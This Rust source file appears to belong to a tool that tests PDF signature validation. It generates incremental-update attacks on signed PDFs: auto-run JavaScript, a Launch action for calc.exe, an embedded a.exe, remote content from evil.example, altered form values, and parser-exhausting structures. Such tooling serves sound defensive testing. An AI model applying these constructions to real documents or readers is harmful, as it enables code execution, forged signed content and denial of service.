//! Content that acts, changes with the viewer or comes from elsewhere, added behind the seal; and
//! structures that are made to exhaust the reader.

use crate::source::{ATTACHMENT, CONTENT, FIELD, stream};
use crate::{Attack, Target};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        id: "A22",
        name: "a-script-on-opening",
        make: |target| catalog(target, "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        appended: Some("S7"),
        signed: &["DocMDP"],
    },
    Attack {
        id: "A22",
        name: "a-program-on-printing",
        make: |target| catalog(target, "/AA<</WP<</S/Launch/F(calc.exe)>>>>"),
        appended: Some("S7"),
        signed: &["DocMDP"],
    },
    Attack {
        id: "A22",
        name: "an-attachment",
        make: attachment,
        appended: Some("S7"),
        signed: &["DocMDP"],
    },
    Attack {
        id: "A23",
        name: "layers-that-depend-on-the-viewer",
        make: |target| {
            let layers = "/OCProperties<</OCGs[]/D<</Order[]/AS[<</Event/Print/OCGs[]>>]>>>>";
            catalog(target, layers)
        },
        appended: Some("S7"),
        signed: &["DocMDP"],
    },
    Attack {
        id: "A24",
        name: "appearances-made-by-the-viewer",
        make: need_appearances,
        appended: Some("S8"),
        signed: &["DocMDP"],
    },
    Attack {
        id: "A24",
        name: "a-field-without-appearance",
        make: field_without_appearance,
        appended: Some("S5"),
        signed: &["DocMDP"],
    },
    Attack {
        id: "A25",
        name: "content-from-another-file",
        make: |target| {
            let content = stream("/F(https://evil.example/page)", b"");
            target.copy.append(&[(CONTENT, content)])
        },
        appended: Some("S15"),
        signed: &["DocMDP"],
    },
    Attack {
        id: "A26",
        name: "nesting-without-end",
        make: |target| {
            let deep = ["[".repeat(100_000), "]".repeat(100_000)].concat();
            target.copy.append(&[(target.copy.next, deep.into_bytes())])
        },
        appended: Some("S6"),
        signed: &["unreadable", "readers", "DocMDP"],
    },
    Attack {
        id: "A26",
        name: "a-flood-of-end-marks",
        make: |target| [&target.copy.bytes[..], &b"%%EOF\n".repeat(20_000)].concat(),
        appended: Some("S1"),
        signed: &["unreadable", "B6", "readers", "repaired"],
    },
    Attack {
        id: "A26",
        name: "a-table-that-leads-to-itself",
        make: endless_chain,
        appended: Some("S4"),
        signed: &["unreadable", "readers", "repaired", "DocMDP"],
    },
];

/// A22, A23: one entry more in the catalog.
fn catalog(target: &Target<'_>, entry: &str) -> Vec<u8> {
    let copy = target.copy;
    copy.append(&[(copy.root, copy.with_entries(copy.root, entry))])
}

/// A22: what lay in the document unseen is attached to it.
fn attachment(target: &Target<'_>) -> Vec<u8> {
    let file = format!("<</Type/Filespec/F(a.exe)/EF<</F {ATTACHMENT} 0 R>>>>");
    catalog(
        target,
        &format!("/Names<</EmbeddedFiles<</Names[(a.exe){file}]>>>>"),
    )
}

/// A24: the viewer is to draw the fields anew.
fn need_appearances(target: &Target<'_>) -> Vec<u8> {
    let copy = target.copy;
    let form = copy.with_entries(copy.form, "/NeedAppearances true");
    copy.append(&[(copy.form, form)])
}

/// A24: the field has another value, and nothing that says how it looks.
fn field_without_appearance(target: &Target<'_>) -> Vec<u8> {
    let copy = target.copy;
    let field = copy.with_replaced(FIELD, "/V(10)", "/V(9999)");
    let field = crate::copy::replaced(&field, "/AP<</N 7 0 R>>", "");
    copy.append(&[(FIELD, field)])
}

/// A26: the cross-reference before this one is this one.
fn endless_chain(target: &Target<'_>) -> Vec<u8> {
    let copy = target.copy;
    let objects = [(copy.root, copy.object(copy.root))];
    copy.append_spoilt(&objects, |section| {
        section.set("Prev", section.startxref.to_string());
    })
}
